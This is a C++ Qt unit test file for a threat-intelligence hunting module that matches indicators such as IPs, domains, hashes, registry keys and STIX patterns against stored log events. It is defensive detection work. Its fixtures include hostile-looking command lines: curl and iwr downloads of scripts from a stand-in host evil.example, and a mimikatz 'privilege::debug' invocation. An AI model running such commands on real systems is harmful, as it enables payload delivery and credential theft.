// SPDX-License-Identifier: GPL-3.0-or-later
// Which values in events an indicator finds, and what a hunt swears to.
#include <jupiter/columnar/batch_builder.h>
#include <jupiter/intel/hunt.h>
#include <jupiter/intel/indicator_rule.h>
#include <jupiter/intel/import.h>
#include <jupiter/intel/intel_store.h>
#include <jupiter/intel/watch.h>

#include <QDir>
#include <QTemporaryDir>
#include <QtTest>

using namespace jupiter;
using intel::Kind;

class HuntTest final : public QObject {
    Q_OBJECT

    QTemporaryDir m_folder;
    int m_number = 0;

    struct Cell {
        const char *field, *value;
    };
    /// A store with one event a list of cells.
    std::unique_ptr<store::EventStore> events(const std::vector<std::vector<Cell>> &rows)
    {
        auto store = *store::EventStore::open(m_folder.filePath(QString("e%1.jupiter").arg(++m_number)).toStdString(), store::EventStore::Mode::Create);
        columnar::BatchBuilder builder;
        std::int64_t sequence = 0;
        for (const auto &cells : rows) {
            builder.beginRow();
            builder.addTime(builder.field("@timestamp"), {1'700'000'000'000'000'000 + sequence * 1'000'000'000});
            builder.addText(builder.field("jupiter.source"), std::string(64, 'a'));
            builder.addText(builder.field("log.file.path"), "x.json");
            builder.addInteger(builder.field("event.sequence"), sequence++);
            for (const Cell &cell : cells)
                builder.addText(builder.field(cell.field), cell.value);
            builder.endRow();
        }
        store::SourceProgress progress;
        progress.record.sha256 = std::string(64, 'a');
        progress.record.path = "x.json";
        progress.record.stored = rows.size();
        if (auto done = store->append(builder.take(), std::span(&progress, 1)); !done)
            qFatal("%s", done.error().message.c_str());
        return store;
    }
    static intel::HuntList listOf(std::vector<intel::Value> values)
    {
        intel::HuntList list;
        intel::MatchSet::Builder builder;
        for (std::size_t i = 0; i < values.size(); ++i) {
            builder.add(values[i].kind, values[i].text, intel::MatchSet::Tag(i));
            if (values[i].kind == Kind::Pattern)
                list.patterns.push_back({intel::MatchSet::Tag(i), values[i].text});
        }
        list.set = builder.build();
        list.valueOf = [values](intel::MatchSet::Tag tag) { return std::optional(values.at(tag)); };
        return list;
    }
    intel::HuntResult huntFor(store::EventStore &store, const intel::HuntList &list, TimeRange range = {})
    {
        SimpleJob job;
        return intel::hunt(*store.snapshot(), list, {range, 1}, job);
    }

    /// A segment of which one column is damaged.
    class DamagedSegment final : public store::Segment {
    public:
        DamagedSegment(store::SegmentPtr whole, std::string field) : m_whole(std::move(whole)), m_field(std::move(field)) {}
        std::uint32_t rows() const override { return m_whole->rows(); }
        std::span<const std::string> fields() const override { return m_whole->fields(); }
        Result<columnar::ColumnPtr> column(std::string_view field) const override
        {
            if (field == m_field)
                return Error{ErrorCode::Corrupt, "stored data does not match its checksum"};
            return m_whole->column(field);
        }
        std::int64_t number() const override { return m_whole->number(); }
        TimeRange times() const override { return m_whole->times(); }
        std::uint64_t storedBytes() const override { return m_whole->storedBytes(); }
        bool mayHoldInteger(std::string_view, std::int64_t, std::int64_t) const override { return true; }
        bool mayHoldText(std::string_view, std::string_view) const override { return true; }
        bool mayContain(std::string_view, std::string_view) const override { return true; }

    private:
        store::SegmentPtr m_whole;
        std::string m_field;
    };

private Q_SLOTS:
    void aHitNeverNamesAnotherEventWhenIdsAreDamaged()
    {
        const auto store = events({{{"source.ip", "10.0.0.9"}}, {{"source.ip", "10.0.0.5"}}});
        const intel::HuntList list = listOf({{Kind::Ipv4, "10.0.0.5"}});
        for (const char *field : {"event.sequence", "jupiter.source", "log.file.path", ""}) {
            store::Snapshot snapshot = *store->snapshot();
            snapshot.segments[0] = std::make_shared<DamagedSegment>(snapshot.segments[0], field);
            SimpleJob job;
            const intel::HuntResult result = intel::hunt(snapshot, list, {{}, 1}, job);
            QCOMPARE(result.hits.size(), std::size_t(1));
            QCOMPARE(result.hits[0].count, std::uint64_t(1));
            QCOMPARE(result.receipt.partial, *field != 0);
            for (const intel::HuntEvent &event : result.hits[0].events)
                QCOMPARE(event.id, std::string("aaaaaaaaaaaaaaaa:1"));
            const bool hasIds = !*field || field == std::string_view("log.file.path");
            QCOMPARE(result.hits[0].events.size(), std::size_t(hasIds));
        }
    }
    void anIndicatorIsFoundInWhateverWayTheEventHasIt_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("there");
        QTest::addColumn<bool>("found");
        const auto row = [](const char *kind, const char *value, const char *field, const char *there, bool found) {
            QTest::newRow(qPrintable(QString("%1 %2 in %3 %4").arg(kind, value, field, there))) << kind << value << field << there << found;
        };
        row("ipv4-addr", "10.0.0.5", "destination.ip", "10.0.0.5", true);
        row("ipv4-addr", "10.0.0.5", "destination.ip", "10.0.0.50", false);
        row("ipv4-addr", "10.0.0.5", "destination.ip", "::ffff:10.0.0.5", true);
        row("ipv4-addr", "10.0.0.0/24", "source.ip", "10.0.0.77", true);
        row("ipv4-addr", "10.0.0.0/24", "source.ip", "10.0.1.77", false);
        row("ipv4-addr", "10.0.0.5", "process.command_line", "ping 10.0.0.5 -n 3", true);
        row("ipv4-addr", "10.0.0.5", "process.command_line", "connect=10.0.0.5:443;", true);
        row("ipv4-addr", "10.0.0.5", "process.command_line", "1.10.0.0.5", false);
        row("ipv4-addr", "10.0.0.5", "url.full", "http://10.0.0.5/x", true);
        row("ipv4-addr", "10.0.0.5", "some.odd.dst_ip", "10.0.0.5", true);
        row("ipv6-addr", "2001:db8::1", "source.ip", "2001:DB8:0:0:0:0:0:1", true);
        row("ipv6-addr", "2001:db8::/32", "source.ip", "2001:db8:1::9", true);
        row("domain-name", "evil.example", "dns.question.name", "a.b.EVIL.example", true);
        row("domain-name", "evil.example", "dns.question.name", "notevil.example", false);
        row("domain-name", "evil.example", "url.full", "https://user@www.evil.example:8443/p?q", true);
        row("domain-name", "evil.example", "process.command_line", "curl -o x hxxp evil.example/x.ps1", true);
        row("domain-name", "evil.example", "message", "resolved evil.example.", true);
        row("url", "http://evil.example/a", "url.full", "HTTP://EVIL.example:80/a", true);
        row("url", "http://evil.example/a", "url.full", "http://evil.example/b", false);
        row("url", "http://evil.example", "url.full", "http://evil.example/", true);
        row("url", "http://evil.example/a?b=c", "process.command_line", "iwr 'http://evil.example/a?b=c' -o x", true);
        row("email-addr", "m@evil.example", "email.from.address", "M@Evil.example", true);
        row("email-addr", "m@evil.example", "message", "mail from <m@evil.example>", true);
        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "file.hash.md5", "D41D8CD98F00B204E9800998ECF8427E", true);
        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E", true);
        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709; MD5=D41D8CD98F00B204E9800998ECF8427E", true);
        row("email-addr", "mallory[z`{@x.example", "email.from.address", "MALLORY[Z`{@X.example", true);
        row("file:imphash", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "MD5=D41D8CD98F00B204E9800998ECF8427E", false);
        row("file:imphash", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "MD5=0,IMPHASH=D41D8CD98F00B204E9800998ECF8427E", true);
        row("file:name", "mimikatz.exe", "process.executable", "C:\\Temp\\Mimikatz.EXE", true);
        row("file:name", "mimikatz.exe", "process.executable", "C:\\Temp\\notmimikatz.exe", false);
        row("file:name", "mimikatz.exe", "process.command_line", "\"C:\\x\\mimikatz.exe\" privilege::debug", true);
        row("file:path", "C:\\Temp\\x.exe", "file.path", "c:\\temp\\X.exe", true);
        row("file:path", "C:\\Temp\\x.exe", "file.path", "c:\\other\\temp\\x.exe", false);
        row("file:path", "%APPDATA%\\Evil\\x.exe", "file.path", "C:\\Users\\m\\AppData\\Roaming\\Evil\\x.exe", true);
        row("file:path", "/tmp/.x/y", "process.executable", "/tmp/.x/y", true);
        row("windows-registry-key", "HKLM\\Software\\Evil", "registry.path", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil\\Value", true);
        row("windows-registry-key", "HKCU\\Software\\Evil", "registry.path", "HKU\\S-1-5-21-1-2-3-500\\Software\\Evil", true);
        row("windows-registry-key", "HKLM\\Software\\Evil", "registry.path", "HKLM\\Software\\EvilToo", false);
        row("mutex", "Global\\Evil", "winlog.event_data.MutexName", "Global\\Evil", true);
        row("user-agent", "Evil/1.0", "user_agent.original", "Evil/1.0", true);
        row("ja3", "d41d8cd98f00b204e9800998ecf8427e", "tls.client.ja3", "d41d8cd98f00b204e9800998ecf8427e", true);
        row("ja3", "d41d8cd98f00b204e9800998ecf8427e", "file.hash.md5", "d41d8cd98f00b204e9800998ecf8427e", false);
        row("vulnerability", "CVE-2017-0144", "message", "exploits cve-2017-0144 here", true);
    }
    void anIndicatorIsFoundInWhateverWayTheEventHasIt()
    {
        QFETCH(QString, kind);
        QFETCH(QString, value);
        QFETCH(QString, field);
        QFETCH(QString, there);
        QFETCH(bool, found);
        const QByteArray fieldName = field.toUtf8(), content = there.toUtf8();
        const auto store = events({{{"message", "nothing here"}}, {{fieldName.constData(), content.constData()}}});
        const auto list = listOf({{*intel::kindFromName(kind.toStdString()), value.toStdString()}, {Kind::Domain, "other.example"}});
        const intel::HuntResult result = huntFor(*store, list);
        QCOMPARE(result.hits.empty(), !found);
        QCOMPARE(result.receipt.hit, found ? 1u : 0u);
        QCOMPARE(result.receipt.events, 2u);
        if (found) {
            QCOMPARE(result.hits.front().count, 1u);
            QCOMPARE(result.hits.front().events.front().id, std::string(16, 'a') + ":1");
        }
    }

    void aHitIsNamedByTheFieldThatPeopleKnow()
    {
        const auto store = events({{{"winlog.channel", "Microsoft-Windows-Sysmon/Operational"}, {"event.code", "3"}, {"winlog.event_data.DestinationIp", "10.0.0.5"}},
                                   {{"winlog.channel", "Microsoft-Windows-Sysmon/Operational"}, {"event.code", "3"}, {"winlog.event_data.SourceIp", "10.0.0.5"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.0.0.5"}}));
        QCOMPARE(result.hits.size(), 2u);
        QCOMPARE(result.hits[0].field, std::string("destination.ip"));
        QCOMPARE(result.hits[1].field, std::string("source.ip"));
        QCOMPARE(result.receipt.hit, 1u); // one indicator, two fields
    }

    void onlyTheTimeAskedForIsSearched()
    {
        const auto store = events({{{"source.ip", "10.0.0.5"}}, {{"source.ip", "10.0.0.5"}}, {{"source.ip", "10.0.0.5"}}});
        const std::int64_t begin = 1'700'000'000'000'000'000, second = 1'000'000'000;
        const auto list = listOf({{Kind::Ipv4, "10.0.0.5"}});
        const intel::HuntResult result = huntFor(*store, list, {{begin + second}, {begin + 2 * second}});
        QCOMPARE(result.receipt.events, 1u);
        QCOMPARE(result.hits.front().count, 1u);
        const intel::HuntReceipt later = huntFor(*store, list, {{begin + 10 * second}, {begin + 20 * second}}).receipt;
        QCOMPARE(later.events, 0u);
        QCOMPARE(later.notCovered.size(), std::size_t(1));
        QVERIFY2(later.notCovered.front().what.starts_with("3 events before "), later.notCovered.front().what.c_str());
    }

    void theReceiptSaysWhatWasNotLookedAt()
    {
        const auto store = events({{{"source.ip", "10.0.0.1"}, {"odd.field", "x"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.0.0.5"}, {Kind::Ja3, std::string(32, 'a')}, {Kind::Text, "x"}, {Kind::Yara, "rule"}}));
        QCOMPARE(result.receipt.lookedFor, 2u);
        QCOMPARE(result.receipt.notMatchable, 2u);
        QCOMPARE(result.receipt.fields, std::vector<std::string>{"source.ip"});
        QStringList what;
        for (const intel::NotCovered &one : result.receipt.notCovered)
            what << QString::fromStdString(one.what);
        QVERIFY(what.contains("ja3"));
        QVERIFY(what.join(' ').contains("odd.field"));
        QVERIFY(what.join(' ').contains("2 indicators of kinds"));
    }

    void aPatternIsAskedOfEveryEvent_data()
    {
        QTest::addColumn<QString>("pattern");
        QTest::addColumn<int>("count"); // events of the hit; -1: not asked
        const auto row = [](const char *pattern, int count) { QTest::newRow(pattern) << pattern << count; };
        row("[ipv4-addr:value = '10.0.0.5' OR domain-name:value = 'evil.example']", 3);
        row("[ipv4-addr:value = '10.0.0.0/24']", 3);
        row("[ipv4-addr:value ISSUBSET '10.0.0.4/30']", 2);
        row("[domain-name:value = 'EVIL.example']", 1);
        row("[domain-name:value LIKE 'e%.example']", 1);
        row("[domain-name:value MATCHES '^e.*le$']", 1);
        row("[network-traffic:dst_ref.value = '10.0.0.5' AND network-traffic:dst_port = 443]", 1);
        row("[network-traffic:dst_ref.value = '10.0.0.5' AND network-traffic:dst_port > 443]", 0);
        row("[network-traffic:dst_port IN (80, 443)]", 2);
        row("[file:name = 'a.exe' AND file:hashes.MD5 = 'D41D8CD98F00B204E9800998ECF8427E']", 1);
        row("[file:name = 'b.dll' AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']", 0); // the hash of another file of the event
        row("[file:name EXISTS]", -1); // a STIX parser takes EXISTS before the path
        row("[EXISTS file:name]", 1);
        row("[NOT EXISTS file:name]", -1);
        row("[network-traffic:dst_ref.value = '10.0.0.5' AND NOT EXISTS network-traffic:src_ref.value]", 2);
        row("[ipv4-addr:value = '10.0.0.99' AND NOT EXISTS network-traffic:dst_port]", 0); // a condition of two types holds for no object
        row("[file:name = 'a.exe' AND NOT EXISTS file:hashes.MD5]", 0);
        row("[file:name = 'a.exe' AND NOT EXISTS file:hashes.'SHA-256']", 1);
        row("[file:name = 'a.exe' OR NOT EXISTS file:hashes.MD5]", -1); // every event lacks something
        row("[domain-name:value = 'evil.example'] FOLLOWEDBY [ipv4-addr:value = '10.0.0.5']", 2);
        row("[ipv4-addr:value = '10.0.0.5'] FOLLOWEDBY [domain-name:value = 'absent.example']", 0);
        row("[file:name = 'a.exe'] FOLLOWEDBY [domain-name:value = 'evil.example']", 0);
        row("([domain-name:value = 'evil.example'] AND [file:name = 'a.exe']) WITHIN 3 SECONDS", 2);
        row("([domain-name:value = 'evil.example'] AND [file:name = 'a.exe']) WITHIN 1 SECONDS", 0);
        row("[ipv4-addr:value = '10.0.0.5'] REPEATS 2 TIMES", 2);
        row("[ipv4-addr:value = '10.0.0.5'] REPEATS 3 TIMES", 0);
        row("[ipv4-addr:value = '10.0.0.5'] START t'2023-11-14T22:13:22Z' STOP t'2023-11-14T22:13:23Z'", 1);
        row("[mutex:name = 'x']", -1);
        row("[email-message:subject = 'x']", -1); // no event has a subject
        row("[ipv4-addr:value = '10.0.0.5' AND", -1);
    }
    void aPatternIsAskedOfEveryEvent()
    {
        QFETCH(QString, pattern);
        QFETCH(int, count);
        const auto store = events({{{"destination.domain", "evil.example"}},
                                   {{"destination.ip", "10.0.0.5"}, {"destination.port", "443"}},
                                   {{"destination.ip", "10.0.0.5"}, {"destination.port", "80"}},
                                   {{"source.ip", "10.0.0.99"}, {"process.name", "a.exe"}, {"process.hash.md5", "d41d8cd98f00b204e9800998ecf8427e"}, {"dll.name", "b.dll"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Pattern, pattern.toStdString()}}));
        QCOMPARE(result.receipt.lookedFor, count < 0 ? 0u : 1u);
        QCOMPARE(result.receipt.notMatchable, count < 0 ? 1u : 0u);
        QCOMPARE(result.hits.size(), count > 0 ? 1u : 0u);
        QCOMPARE(result.receipt.hit, count > 0 ? 1u : 0u);
        if (count > 0)
            QCOMPARE(result.hits[0].events.size(), std::size_t(count));
        const bool said = std::any_of(result.receipt.notCovered.begin(), result.receipt.notCovered.end(), [](const intel::NotCovered &one) { return one.what.starts_with("1 pattern"); });
        QCOMPARE(said, count < 0);
    }

    void aRuleThatSaysNothingOrNonsenseIsRefused_data()
    {
        QTest::addColumn<QByteArray>("yaml");
        QTest::addColumn<QString>("why");
        const auto row = [](const char *yaml, const char *why) { QTest::newRow(yaml) << QByteArray(yaml) << QString(why); };
        row("", "one YAML document");
        row("- a", "one YAML document");
        row("name: [", "line");
        row("name: a", "at least one of");
        row("kinds: [url]", "name is one line");
        row("name: \"a\\nb\"\nkinds: [url]", "name is one line");
        row("name: a\nkind: url", "'kind' is not known");
        row("name: a\nkinds: [pattern]", "no kind that events are searched for");
        row("name: a\nkinds: {url: 1}", "list of kinds");
        row("name: a\nmin-score: 101", "0 to 100");
        row("name: a\nmin-score: 5x", "0 to 100");
        row("name: a\nmin-score: 50\nlevel: worst", "level is");
        row("name: a\nwhere: 'source.ip:'", "where: ");
        row("name: a\nwhere: \"source.ip:10.0.0.1 | stats count()\"", "no commands");
        row("name: a\nwhere: [x]", "takes a text");
        row("name: a\nkinds: [url]\n---\nname: b\nkinds: [url]", "one YAML document");
    }
    void aRuleThatSaysNothingOrNonsenseIsRefused()
    {
        QFETCH(QByteArray, yaml);
        QFETCH(QString, why);
        const auto rule = intel::IndicatorRule::parse(yaml.toStdString());
        QVERIFY(!rule);
        QVERIFY2(rule.error().message.find(why.toStdString()) != std::string::npos, rule.error().message.c_str());
    }

    void fieldsThatTheProgramFillsAreNotCalledUncovered()
    {
        const auto store = events({{{"source.ip", "10.1.2.3"}, {"log.file.path", "a.log"}, {"jupiter.decoder", "x"}, {"my.odd.thing", "y"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.1.2.3"}}));
        std::string all;
        for (const intel::NotCovered &one : result.receipt.notCovered)
            all += one.what + '\n';
        QVERIFY2(all.find("my.odd.thing") != std::string::npos, all.c_str());
        for (const char *own : {"log.file.path", "event.sequence", "log.offset", "jupiter."})
            QVERIFY2(all.find(own) == std::string::npos, all.c_str());
    }

    void aHitIsNamedByTheFieldThatShowsIt()
    {
        // The same stored field under its ECS name, under another where a rule before it has a value, and under its own where a condition does not hold.
        const auto store = events({{{"winlog.event_data.IpAddress", "10.1.2.3"}},
                                   {{"winlog.event_data.IpAddress", "10.1.2.3"}, {"winlog.event_data.SourceIp", "10.9.9.9"}},
                                   {{"winlog.event_data.IpAddress", "10.1.2.3"}, {"winlog.event_data.SourceIp", "10.1.2.3"}},
                                   {{"winlog.event_data.SourceAddress", "10.1.2.3"}, {"winlog.channel", "Security"}},
                                   {{"winlog.event_data.SourceAddress", "10.1.2.3"}, {"winlog.channel", "Elsewhere"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.1.2.3"}}));
        QMap<QString, quint64> counts;
        for (const intel::HuntHit &hit : result.hits)
            counts[QString::fromStdString(hit.field)] = hit.count;
        QCOMPARE(counts, (QMap<QString, quint64>{{"source.ip", 3}, {"winlog.event_data.IPAddress", 1}, {"winlog.event_data.SourceAddress", 1}})); // the second as fields.yaml spells it
    }

    void overlappingNetworksAreAllFound()
    {
        const auto store = events({{{"source.ip", "10.1.2.3"}}});
        const auto list = listOf({{Kind::Ipv4, "10.0.0.0/8"}, {Kind::Ipv4, "10.1.0.0/16"}, {Kind::Ipv4, "10.1.2.3"}, {Kind::Ipv4, "10.1.3.0/24"}, {Kind::Ipv4, "0.0.0.0/0"}});
        QCOMPARE(huntFor(*store, list).receipt.hit, 4u);
    }

    void theSetOfAStoreIsKeptUntilSomethingChanges()
    {
        SimpleJob job;
        const QString folder = m_folder.filePath("kept.jupiter");
        auto store = *intel::IntelStore::open(folder.toStdString(), intel::IntelStore::Mode::Create);
        QVERIFY(intel::importBytes(*store, "a", "evil.com\n10.0.0.5\nno kind here\n", "", job));
        const Timestamp now = timestampNow();
        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 2u);
        QVERIFY(!store->keptMatchSet(now)->empty());
        const auto kept = intel::MatchSet::load(*store, now);
        QCOMPARE(kept->lookedFor(), 2u);
        QCOMPARE(kept->notMatchable(), 1u);
        QVERIFY(intel::importBytes(*store, "b", "worse.com\n", "", job));
        QVERIFY(store->keptMatchSet(now)->empty());
        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 3u);
        QVERIFY(store->saveException({"evil.com", "ours", {}}));
        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 2u);
        QVERIFY(store->dropException("evil.com"));
        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 3u);
    }

    void aKeptSetThatIsDamagedIsBuiltAgain()
    {
        intel::MatchSet::Builder builder;
        builder.add(Kind::Domain, "evil.com", 1);
        builder.add(Kind::Ipv4, "10.0.0.0/8", 2);
        const std::string bytes = builder.build().serialise();
        const auto read = [](std::string text) { return intel::MatchSet::deserialise(std::make_shared<const std::string>(std::move(text))); };
        QVERIFY(read(bytes));
        for (std::size_t size = 0; size < bytes.size(); ++size)
            QVERIFY(!read(bytes.substr(0, size)));
        QVERIFY(!read(bytes + "x"));
    }

    void aListNamesAValueOnceHoweverOftenItStandsThere()
    {
        QByteArray list = "evil.com\nEVIL[.]com.\n10.0.0.0/8\n10.1.2.3/8\nnonsense here\nnonsense here\nhttp://evil.com/x\nhttps://evil.com/x\n";
        for (int i = 0; i < 2000; ++i) { // spellings of one file name: every one has the same key
            QByteArray name = "%TEMP%\\abcdefghijk.exe\n";
            for (int bit = 0; bit < 11; ++bit)
                if (i >> bit & 1)
                    name[7 + bit] = char(name[7 + bit] - 32);
            list += name;
        }
        QFile file(m_folder.filePath("twice.txt"));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(list) == list.size());
        file.close();
        SimpleJob job;
        std::vector<std::string> refused;
        const auto read = intel::HuntList::ofFiles({file.fileName().toStdString()}, refused, {}, job);
        QVERIFY(read);
        QVERIFY(refused.empty());
        QCOMPARE(read->set.lookedFor(), 4u + 2000u); // evil.com, the network, two URLs, the names
        QCOMPARE(read->set.notMatchable(), 1u);
        const auto store = events({{{"dns.question.name", "www.evil.com"}}, {{"destination.ip", "10.9.9.9"}}});
        const intel::HuntResult result = huntFor(*store, *read);
        QCOMPARE(result.hits.size(), 2u);
    }

    void aReceiptSaysWhatOfATextWasNotLookedFor()
    {
        QFile file(m_folder.filePath("report.txt"));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write("The victim was 10.9.9.9 as everybody in the lab knows.\nThe server was evil[.]com as far as we could see.\n") > 0);
        file.close();
        SimpleJob job;
        std::vector<std::string> refused;
        const auto list = intel::HuntList::ofFiles({file.fileName().toStdString()}, refused, {}, job);
        QVERIFY(list && refused.empty());
        const auto store = events({{{"destination.ip", "10.9.9.9"}}, {{"dns.question.name", "evil.com"}}});
        const intel::HuntResult result = huntFor(*store, *list);
        QCOMPARE(result.hits.size(), 1u);
        QVERIFY(std::any_of(result.receipt.notCovered.begin(), result.receipt.notCovered.end(), [](const intel::NotCovered &one) { return one.what.starts_with("1 values in texts"); }));
    }

    void aLongListIsKeptForTheNextHuntAndReadAnewWhenTheFileIsDamaged()
    {
        QByteArray text = "10.0.0.0/8\nno kind here\n";
        for (int i = 0; i < 80'000; ++i)
            text += QByteArray("d") + QByteArray::number(i) + ".evil.com\n";
        QFile file(m_folder.filePath("long.txt"));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(text) == text.size());
        file.close();
        const std::filesystem::path cache = m_folder.filePath("cache").toStdString();
        const auto store = events({{{"dns.question.name", "d79999.evil.com"}}, {{"destination.ip", "10.9.9.9"}}, {{"destination.ip", "11.9.9.9"}}});
        const auto read = [&] {
            SimpleJob job;
            std::vector<std::string> refused;
            return *intel::HuntList::ofFiles({file.fileName().toStdString()}, refused, cache, job);
        };
        const auto keptFiles = [&] { return QDir(m_folder.filePath("cache")).entryInfoList({"*.indicators"}); };
        const auto isWhole = [&](const intel::HuntList &list) {
            const intel::HuntResult result = huntFor(*store, list);
            return list.set.lookedFor() == 80'001 && list.set.notMatchable() == 1 && result.hits.size() == 2 && list.valueOf(result.hits[1].tag)->text == "d79999.evil.com" &&
                   !list.valueOf(90'000);
        };
        const intel::HuntList first = read();
        QVERIFY(first.keep);
        QVERIFY(isWhole(first));
        first.keep();
        QCOMPARE(keptFiles().size(), 1);
        const intel::HuntList second = read();
        QVERIFY(!second.keep); // it was there
        QVERIFY(isWhole(second));
        QFile kept(keptFiles().front().filePath());
        QVERIFY(kept.open(QIODevice::ReadWrite));
        const QByteArray whole = kept.readAll();
        for (const int at : {0, 10, 80, 150, 191, 192, 5000, int(whole.size()) / 3, int(whole.size()) / 2, int(whole.size()) - 1}) {
            kept.seek(at);
            QVERIFY(kept.putChar(char(whole[at] ^ 1)) && kept.flush());
            const intel::HuntList anew = read();
            QVERIFY2(anew.keep, qPrintable(QString::number(at)));
            QVERIFY(isWhole(anew));
            kept.seek(at);
            QVERIFY(kept.putChar(whole[at]) && kept.flush());
        }
        QVERIFY(!read().keep);
        QVERIFY(kept.resize(whole.size() - 1));
        QVERIFY(read().keep);
        QVERIFY(kept.resize(0) && kept.write(whole) == 0 + whole.size() && kept.flush());
        kept.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::WriteOther); // somebody else may have written it
        QVERIFY(read().keep);
        kept.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
        text.replace("d7.evil.com", "e7.evil.com");
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(text) == text.size());
        file.close();
        QVERIFY(read().keep); // another list
    }

    // Live sources begin anew with other rules: what they matched with is moved.
    void aMatcherThatWasMovedStillFinds()
    {
        SimpleJob job;
        const std::filesystem::path folder = m_folder.filePath("moved.jupiter").toStdString();
        QVERIFY(intel::importBytes(**intel::IntelStore::open(folder, intel::IntelStore::Mode::Create), "a", "evil.com\n", "", job));
        intel::BatchMatcher first(*intel::IndicatorWatch::open(folder)), second(nullptr);
        intel::BatchMatcher moved(std::move(first));
        second = std::move(moved);
        columnar::BatchBuilder builder;
        builder.beginRow();
        builder.addText(builder.field("jupiter.source"), std::string(64, 'a'));
        builder.addInteger(builder.field("event.sequence"), 0);
        builder.addText(builder.field("dns.question.name"), "www.evil.com");
        builder.endRow();
        std::vector<store::StoredFinding> found;
        QVERIFY(second.match(builder.take(), found));
        QCOMPARE(found.size(), 1u);
        QVERIFY(found.front().title.ends_with("evil.com"));
    }

    void everyOneOfManyIsFoundAndNoOther()
    {
        std::vector<intel::Value> values;
        std::vector<std::string> texts;
        for (int i = 0; i < 20'000; ++i)
            values.push_back({Kind::Domain, "d" + std::to_string(i * 7919) + ".example"});
        std::vector<std::vector<Cell>> rows;
        for (int i = 0; i < 2000; ++i)
            texts.push_back("d" + std::to_string(i * 7919 + i % 2) + ".example"); // every other one is a stranger
        for (const std::string &text : texts)
            rows.push_back({{"dns.question.name", text.c_str()}});
        const auto store = events(rows);
        QCOMPARE(huntFor(*store, listOf(values)).receipt.hit, 1000u);
    }
};

QTEST_GUILESS_MAIN(HuntTest)
#include "hunt_test.moc"
